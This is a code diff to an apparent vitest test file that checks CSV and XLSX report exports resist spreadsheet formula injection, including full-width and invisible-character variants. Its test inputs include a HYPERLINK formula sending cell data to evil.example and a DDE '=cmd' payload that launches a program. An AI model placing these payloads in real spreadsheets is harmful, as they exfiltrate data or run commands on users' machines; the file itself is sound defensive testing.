@@ -1,35 +1,57 @@
 import ExcelJS from 'exceljs';
 import iconv from 'iconv-lite';
 import { beforeAll, expect, it } from 'vitest';
+import { startsLikeFormula } from '../../src/domain/formulaGuard.js';
 import { importFile } from '../../src/import.js';
 import { loadReference } from '../../src/reference/loadReference.js';
+import { encodeCp932 } from '../../src/report/encodeCp932.js';
+import { loadImportRecord } from '../../src/report/loadImportRecord.js';
 import { writeReferenceDir } from '../helpers/referenceSet.js';
+import { openpyxlMissing, readWithOpenpyxl } from '../helpers/openpyxl.js';
 import { describeEachEngine } from '../helpers/testDatabase.js';
 import { COL, HEADER, readCsvReport, readWorkbook, rejectsOf, reportOf, tempDir, uploadRow, writeXlsxUpload } from './reportsKit.js';
 
-/** Text a spreadsheet would run or re-parse (OWASP CSV injection), ASCII and full width. */
-const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-2', '@SUM(A1:A2)', '\t=1', '＝1', '＋1', '－1', '＠A'];
-const STARTS_LIKE_FORMULA = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
+/**
+ * Text a spreadsheet would run or re-parse (OWASP CSV injection): ASCII, full-width and small
+ * forms, and behind the characters a reader skips or does not show (issue 15 item 6).
+ */
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-2', '@SUM(A1:A2)', '\t=1', '＝1', '＋1', '－1', '＠A',
+  ' =1', '\u00A0=1', '\u3000=1', '\u200B=1', '\uFEFF=1', '﹦1', '﹢1', '﹣1', '﹫A', '-B棟 サーバ室',
+];
 const HOSTILE_HEADER = '=cmd|\' /C calc\'!A0';
 
 function expectSafe(values: unknown[], where: string): void {
   for (const value of values) {
-    if (typeof value === 'string') expect(STARTS_LIKE_FORMULA.test(value), `${where}: ${JSON.stringify(value)}`).toBe(false);
+    if (typeof value === 'string') expect(startsLikeFormula(value), `${where}: ${JSON.stringify(value)}`).toBe(false);
     else expect(value === null || value === undefined || typeof value === 'number', `${where}: ${JSON.stringify(value)}`).toBe(true);
   }
 }
 
-function expectSafeWorkbook(workbook: ExcelJS.Workbook): void {
+/** Plain values only (never a formula, hyperlink or rich-text object); formula-like text quote-prefixed. */
+async function expectSafeWorkbook(file: string): Promise<void> {
+  const workbook = await readWorkbook(file);
   for (const sheet of workbook.worksheets) {
-    sheet.eachRow((row, n) => {
+    sheet.eachRow((row) => {
       row.eachCell((cell) => {
-        // Plain values only: never a formula, hyperlink or rich-text object.
         expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Null], `${sheet.name}!${cell.address}`).toContain(cell.type);
+        // Never an apostrophe added to the text: the quote-prefix style says it.
+        if (typeof cell.value === 'string') expect(cell.value.startsWith("'"), `${sheet.name}!${cell.address}`).toBe(false);
       });
-      expectSafe((row.values as unknown[]).slice(1), `${sheet.name} row ${n}`);
     });
   }
+  if (skipOpenpyxl) return;
+  for (const [sheet, cells] of Object.entries(await readWithOpenpyxl(file))) {
+    for (const cell of cells) {
+      expect(['s', 'n'], `${sheet}!${cell.ref}`).toContain(cell.type);
+      const formulaLike = typeof cell.value === 'string' && startsLikeFormula(cell.value);
+      expect(cell.quotePrefix, `${sheet}!${cell.ref} ${JSON.stringify(cell.value)}`).toBe(formulaLike);
+    }
+  }
 }
+
+const skipOpenpyxl = await openpyxlMissing();
+if (skipOpenpyxl) process.stderr.write(`reportsFormulaSafety: the quote-prefix checks are SKIPPED: ${skipOpenpyxl}\n`);
 
 describeEachEngine('formula safety of reports', (t) => {
   let dir: string;
@@ -53,30 +75,50 @@ describeEachEngine('formula safety of reports', (t) => {
     expect(outcome.summary).toMatchObject({ registered: HOSTILE.length, rejected: 1 });
   });
 
-  it('CSV: every field neutralised, hostile text kept after the apostrophe', async () => {
+  it('CSV: every formula-like field guarded with an apostrophe, the text kept after it', async () => {
     for (const encoding of ['utf8', 'cp932'] as const) {
       const file = await reportOf(t().db.knex, importId, dir, 'csv', { encoding, name: `h-${encoding}.csv` });
       const records = await readCsvReport(file, encoding === 'cp932' ? (b) => iconv.decode(b, 'cp932') : undefined);
       records.forEach((r, i) => expectSafe(r, `csv ${encoding} record ${i}`));
       expect(records[0]![COL['社内メモ']!]).toBe(`'${HOSTILE_HEADER}`);
+      // CP932 has no NBSP, zero-width space, BOM or small forms: they are written as "?", guard kept.
+      const written = (h: string) => (encoding === 'cp932' ? iconv.decode(encodeCp932(h), 'cp932') : h);
       HOSTILE.forEach((h, i) => {
-        for (const column of ['設置場所名', 'ビル名', '備考', '社内メモ']) expect(records[i + 1]![COL[column]!]).toBe(`'${h}`);
+        for (const column of ['設置場所名', 'ビル名', '備考', '社内メモ']) expect(records[i + 1]![COL[column]!]).toBe(`'${written(h)}`);
       });
       expect(records.at(-1)![COL['製品シリアルNo.']!]).toBe(`'=1+2`);
     }
   });
 
-  it('XLSX report and rejects file: plain values only, every text cell neutralised', async () => {
-    const report = await readWorkbook(await reportOf(t().db.knex, importId, dir, 'xlsx'));
-    expectSafeWorkbook(report);
-    const sheet = report.worksheets[0]!;
-    expect(sheet.getRow(2).getCell(COL['設置場所名']! + 1).value).toBe(`'${HOSTILE[0]}`);
-    expect(sheet.getRow(1).getCell(COL['社内メモ']! + 1).value).toBe(`'${HOSTILE_HEADER}`);
+  it('XLSX report and rejects file: plain values, the original text, formula-like cells quote-prefixed', async () => {
+    const reportFile = await reportOf(t().db.knex, importId, dir, 'xlsx');
+    await expectSafeWorkbook(reportFile);
+    const sheet = (await readWorkbook(reportFile)).worksheets[0]!;
+    HOSTILE.forEach((h, i) => expect(sheet.getRow(i + 2).getCell(COL['設置場所名']! + 1).value).toBe(h));
+    expect(sheet.getRow(1).getCell(COL['社内メモ']! + 1).value).toBe(HOSTILE_HEADER);
     // Numbers we write stay numbers (row numbers), never text.
     expect(sheet.getRow(2).getCell(HEADER.length + 1).type).toBe(ExcelJS.ValueType.Number);
-    const rejects = await readWorkbook(await rejectsOf(t().db.knex, importId, dir));
-    expectSafeWorkbook(rejects);
-    expect(rejects.worksheets[0]!.getRow(2).getCell(COL['製品シリアルNo.']! + 1).value).toBe(`'=1+2`);
+    const rejectsFile = await rejectsOf(t().db.knex, importId, dir);
+    await expectSafeWorkbook(rejectsFile);
+    expect((await readWorkbook(rejectsFile)).worksheets[0]!.getRow(2).getCell(COL['製品シリアルNo.']! + 1).value).toBe('=1+2');
+  });
+
+  it('a report uploaded again yields the original text, and its result columns are left out', async () => {
+    const ctx = t().context();
+    const reports = [
+      await reportOf(t().db.knex, importId, dir, 'csv', { name: 'again.csv' }),
+      await reportOf(t().db.knex, importId, dir, 'xlsx', { name: 'again.xlsx' }),
+      await reportOf(t().db.knex, importId, dir, 'csv', { name: 'again-en.csv', lang: 'en' }),
+    ];
+    const original = await t().db.knex('import_rows').where({ import_id: importId }).orderBy('seq').pluck('cells');
+    for (const file of reports) {
+      const again = await importFile(ctx, { path: file, resellerCode: 'RS001', dryRun: true });
+      const record = await loadImportRecord(t().db.knex, again.importId);
+      expect(record.facts?.headers, file).toEqual(header);
+      expect(record.facts?.fileWarnings.map((w) => w.params.column), file).toEqual([HOSTILE_HEADER]);
+      const cells = await t().db.knex('import_rows').where({ import_id: again.importId }).orderBy('seq').pluck('cells');
+      expect(cells, file).toEqual(original);
+    }
   });
 
   it('the database keeps the text as the reseller wrote it', async () => {
